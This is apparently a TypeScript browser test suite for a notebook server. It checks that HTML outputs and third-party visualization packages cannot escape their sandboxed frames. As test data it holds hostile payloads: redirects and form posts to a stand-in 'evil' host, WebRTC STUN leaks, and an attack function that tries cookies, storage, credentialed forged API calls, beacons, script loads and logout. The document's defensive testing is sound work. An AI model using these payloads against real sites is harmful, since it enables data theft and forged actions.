/**
 * What leaves the frame of an output or a package: in the app, and on a page of another origin that
 * has no policy of its own.
 */
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { ADMIN_PASSWORD, adminClient, startEmbedded } from '../support/embedded.ts';
import { startRegistry } from '../support/npm-registry.ts';
import { openPage, signIn, type WatchedPage } from '../support/page.ts';
import { untilEnd } from '../support/until-end.ts';

/** Time in which whatever leaves a frame arrives, in ms. */
const ARRIVAL_MS = 1_500;

const listening = (server: Server): Promise<string> =>
  new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
    ),
  );

/** Another host, a server that WebRTC asks for its address, and what has reached them. */
interface Outside {
  readonly url: string;
  /** A script that uses WebRTC. */
  readonly rtc: string;
  readonly reached: { hits: string[]; packets: number };
}
const NOTHING: Outside['reached'] = { hits: [], packets: 0 };

/** Starts one for each page, because many are open at the same time. */
async function startOutside(): Promise<Outside> {
  const reached: Outside['reached'] = { hits: [], packets: 0 };
  const evil = untilEnd(
    createServer(({ url = '' }, response) => {
      reached.hits.push(url);
      response.end('gone');
    }),
  );
  const stun = untilEnd(createSocket('udp4'));
  stun.on('message', () => (reached.packets += 1));
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  const rtc =
    'const peer = new window.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:' +
    `${stun.address().port}" }] }); peer.createDataChannel("x"); ` +
    'peer.createOffer().then((offer) => peer.setLocalDescription(offer));';
  return { url: await listening(evil), rtc, reached };
}
const nested = (rtc: string): string =>
  JSON.stringify(`<script>${rtc}</script>`).replaceAll('</', '<\\/');
const parsed = (rtc: string): string =>
  `<iframe srcdoc="${`<script>${rtc}</script>`.replaceAll('"', '&quot;')}"></iframe>`;

const portal = untilEnd(
  createServer((request, response) => {
    const [, note, paragraph] = (request.url ?? '').split('/');
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(
      `<!doctype html><body><tiding-paragraph server="${embedded.server.url}" note="${note}" ` +
        `paragraph="${paragraph}"></tiding-paragraph><script>` +
        `document.querySelector('tiding-paragraph').token = '${token}'</script>` +
        `<script type="module" src="${embedded.server.url}/tiding.js"></script>`,
    );
  }),
);
const portalUrl = await listening(portal);
const registry = untilEnd(await startRegistry());
const embedded = untilEnd(
  await startEmbedded({ allowOrigins: [portalUrl], heliumRegistry: registry.url }),
);
const client = untilEnd(await adminClient(embedded.server.url));
const token = (await client.tokens.create({ description: 'portal' })).token!;
const browser = untilEnd(await launchChromium());

const PARAGRAPH = '20260101-000000_1';

/** Imports a note with an output, as if it had run. */
async function noteWith(type: 'HTML' | 'TABLE', data: string, graph = {}): Promise<string> {
  const note = await client.notes.importNote({
    name: `escape/${Math.random()}`,
    paragraphs: [
      {
        id: PARAGRAPH,
        text: '%md\nx',
        status: 'FINISHED',
        dateStarted: 'Jan 5, 2026 9:00:01 AM',
        dateFinished: 'Jan 5, 2026 9:00:02 AM',
        config: { results: { 0: { graph } } },
        results: { code: 'SUCCESS', msg: [{ type, data }] },
      },
    ],
  });
  await client.call('setTrust', { params: { noteId: note }, body: { trusted: true } });
  return note;
}

/** Shows an output on the portal's page, and returns the addresses of the frames that loaded. */
async function show(page: Page, html: string): Promise<string[]> {
  const frames: string[] = [];
  page.on('framenavigated', (frame) => void frames.push(frame.url()));
  const note = await noteWith('HTML', html);
  await Promise.all([
    page.waitForEvent('framenavigated', (frame) => /\/output-frame\/1.*nested/.test(frame.url())),
    page.goto(`${portalUrl}/${note}/${PARAGRAPH}`),
  ]);
  await page.locator('tiding-paragraph article').waitFor();
  return frames;
}

describe('an output on a page without a policy', () => {
  const outputs: Record<string, (outside: Outside) => string> = {
    'is led away by a refresh': ({ url }) =>
      `<meta http-equiv="refresh" content="0;url=${url}/refresh"><script></script>`,
    'is led away by a refresh without being trusted': ({ url }) =>
      `<meta http-equiv="refresh" content="0;url=${url}/refresh"><p>shown</p>`,
    'leads itself away by a script': ({ url }) =>
      `<p>shown</p><script>location = "${url}/script"</script>`,
    'opens a link in itself': ({ url }) =>
      `<a id="a" href="${url}/link" target="_self">x</a><script>a.click()</script>`,
    'sends a form': ({ url }) =>
      `<form id="f" action="${url}/form"></form><script>f.submit()</script>`,
    'leads the page around it away': ({ url }) =>
      `<script>try { parent.location = "${url}/parent" } catch {}</script>`,
    'uses WebRTC': ({ rtc }) => `<script>${rtc}</script>`,
    'uses WebRTC in a frame of its own': ({ rtc }) =>
      `<script>const f = document.createElement("iframe"); f.srcdoc = ${nested(rtc)};` +
      'document.body.append(f)</script>',
    'uses WebRTC in a frame that is parsed': ({ rtc }) => parsed(rtc),
    'uses WebRTC in a shadow root': ({ rtc }) =>
      '<div id="h"></div><script>const f = document.createElement("iframe");' +
      `f.srcdoc = ${nested(rtc)}; h.attachShadow({ mode: "closed" }).append(f)</script>`,
    'uses WebRTC in a parsed shadow root': ({ rtc }) =>
      `<div><template shadowrootmode="closed">${parsed(rtc)}</template></div>`,
  };
  const opened = new Map<string, WatchedPage & { outside: Outside; frames: string[] }>();
  // All are open before the wait for what they send.
  beforeAll(async () => {
    for (const [title, html] of Object.entries(outputs)) {
      const watched = await openPage(browser);
      const outside = await startOutside();
      const frames = await show(watched.page, html(outside));
      opened.set(title, { ...watched, outside, frames });
    }
    await wait(ARRIVAL_MS);
  });

  it.each(Object.entries(outputs))('reaches no other host if it %s', async (title, html) => {
    const { page, outside, frames, close } = opened.get(title)!;
    const still = html(outside).includes('<script') ? '' : '/still';
    expect(frames).toContain(`${embedded.server.url}/output-frame/1${still}?nested`);
    expect(outside.reached).toEqual(NOTHING);
    await expect.poll(() => page.url()).toContain(portalUrl);
    await close();
  });

  it('is shown at its height, in a frame of a page of the server', async () => {
    const { page, close } = await openPage(browser);
    await show(page, '<p id="deep" style="height: 345px">shown</p>');
    const frame = page.locator('tiding-paragraph iframe');
    await expect.poll(() => frame.getAttribute('src')).toContain('/nested/output-frame/1');
    await expect.poll(async () => (await frame.boundingBox())?.height).toBeGreaterThan(345);
    await expect
      .poll(() => frame.contentFrame().frameLocator('iframe').locator('#deep').textContent())
      .toBe('shown');
    await close();
  });
});

it('an output in the app does not use WebRTC', async () => {
  const { url, rtc, reached } = await startOutside();
  const note = await noteWith('HTML', `<p>shown</p><script>${rtc}</script>`);
  const { page, close } = await openPage(browser);
  await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
  await page.goto(`${embedded.server.url}/#/notebook/${note}`);
  await page.locator('iframe').first().waitFor();
  await wait(ARRIVAL_MS);
  expect(reached.packets).toBe(0);
  // The browser does offer it to other pages.
  await page.goto(url);
  await page.evaluate(rtc);
  await expect.poll(() => reached.packets).toBeGreaterThan(0);
  await close();
});

/** Runs in the frame of a package, and writes into the frame's body what it reached. */
function attack(url: string, evil: string): void {
  const shut = (): never => {
    throw new Error('shut');
  };
  const answered = (start: (yes: () => void, no: () => void) => void) =>
    new Promise<void>((yes, no) => {
      setTimeout(no, 1_000);
      start(yes, no);
    });
  const call = `${url}/api/notebook`;
  const credentials = 'include';
  const forged = '{"name":"forged"}';
  const attacks: Record<string, () => unknown> = {
    page: () => parent.document.title,
    top: () => top!.document.title,
    storage: () => localStorage.length,
    'storage of the page': () => parent.localStorage.length,
    cookies: () => document.cookie,
    databases: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    call: () => fetch(call, { credentials }),
    change: () => fetch(call, { method: 'POST', mode: 'no-cors', credentials, body: forged }),
    request: () =>
      answered((yes, no) => {
        const request = new XMLHttpRequest();
        Object.assign(request, { withCredentials: true, onload: yes, onerror: no });
        request.open('GET', call);
        request.send();
      }),
    socket: () =>
      answered((onopen, onerror) =>
        Object.assign(new WebSocket(`${url.replace('http', 'ws')}/ws`), { onopen, onerror }),
      ),
    events: () =>
      answered((onopen, onerror) => Object.assign(new EventSource(call), { onopen, onerror })),
    picture: () =>
      answered((onload, onerror) =>
        Object.assign(new Image(), { onload, onerror, src: `${url}/icon.svg` }),
      ),
    script: () =>
      answered((onload, onerror) => {
        const script = document.createElement('script');
        document.head.append(Object.assign(script, { onload, onerror, src: `${evil}/x.js` }));
      }),
    worker: () =>
      answered((yes, no) => {
        const code = `fetch('${call}').then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = ({ data }) => (data ? yes() : no());
      }),
    window: () => window.open(`${evil}/window`) ?? shut(),
    // The browser says yes; the other host would see it.
    beacon: () => [navigator.sendBeacon(`${evil}/beacon`), shut()],
  };
  const place = { url: `${evil}/link`, href: `${evil}/link` };
  const message = { ...place, config: { stolen: 1 }, height: 1e9, message: 'forged' };
  const types = ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'];
  for (const target of [parent, top!])
    for (const type of types) target.postMessage({ ...message, type }, '*');
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: `${url}/api/login/logout`, target: '_top' });
  document.body.append(form);
  form.submit();
  for (const target of [top!, parent])
    try {
      target.location.href = `${evil}/top`;
    } catch {}
  const tries = Object.entries(attacks).map(async ([name, attempt]) => {
    try {
      await attempt();
      return [name];
    } catch {
      return [];
    }
  });
  void Promise.all(tries).then((reached) => {
    document.body.dataset['reached'] = reached.flat().join(', ') || 'nothing';
  });
}

describe('a package that attacks', () => {
  let packages = 0;

  /** Shows a table with the package in the app of a user, or on the portal's page. */
  async function open(place: string, body: string): Promise<WatchedPage & { address: string }> {
    const name = `a-hostile-view-${(packages += 1)}`;
    registry.publish(name, '1.0.0', {
      more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
      files: {
        'package/index.js':
          "import Visualization from 'zeppelin-vis';" +
          "import Passthrough from 'zeppelin-tabledata/passthrough';" +
          'export default class extends Visualization {' +
          'getTransformation() { return new Passthrough({}); }' +
          `render() { if (this.done) return; this.done = true; ${body} } }`,
      },
    });
    await client.packages.enable(name, `${name}@1.0.0`);
    const note = await noteWith('TABLE', 'a\tb\n1\t2', { mode: name });
    const address =
      place === 'the app'
        ? `${embedded.server.url}/#/notebook/${note}`
        : `${portalUrl}/${note}/${PARAGRAPH}`;
    const watched = await openPage(browser);
    await signIn(watched.page, embedded.server.url, 'admin', ADMIN_PASSWORD);
    await watched.page.goto(address);
    return { ...watched, address };
  }

  it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
    const { url } = embedded.server;
    const outside = await startOutside();
    const { page, close, address } = await open(
      place,
      `(${attack})('${url}', '${outside.url}'); try { ${outside.rtc} } catch {}`,
    );
    const outer = page.frameLocator('iframe.package-frame');
    const frame = place === 'the app' ? outer : outer.frameLocator('iframe');
    await expect.poll(() => frame.locator('body').getAttribute('data-reached')).toBe('nothing');
    await wait(ARRIVAL_MS);
    expect({ ...outside.reached, url: page.url() }).toEqual({ ...NOTHING, url: address });
    expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
    expect(await page.getByRole('alertdialog').count()).toBe(0);
    expect((await page.request.get(`${url}/api/notebook`)).status()).toBe(200);
    await close();
  });

  it.each([
    ['leads its frame away', 'location = target'],
    ['leads its frame away later', 'setTimeout(() => (location = target), 500)', true],
    ['floods the page', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
    ['floods its view', 'for (let n = 0; n < 500; n += 1) this.emitConfig({ n })', true],
  ])('and %s reaches nothing, and is stopped [S97]', async (_, attack, isStopped = false) => {
    const { url, reached } = await startOutside();
    const opened: WatchedPage[] = [];
    for (const place of ['the app', 'the portal']) {
      const watched = await open(place, `const target = '${url}/self'; ${attack}`);
      const { page } = watched;
      opened.push(watched);
      if (isStopped) await page.getByText('Try again').first().waitFor();
      else await page.locator('article').getByText('Took').waitFor();
      expect(await page.locator('iframe.package-frame').count()).toBeLessThan(isStopped ? 1 : 2);
    }
    await wait(ARRIVAL_MS);
    expect(reached.hits).toEqual([]);
    for (const { close } of opened) await close();
  });
});
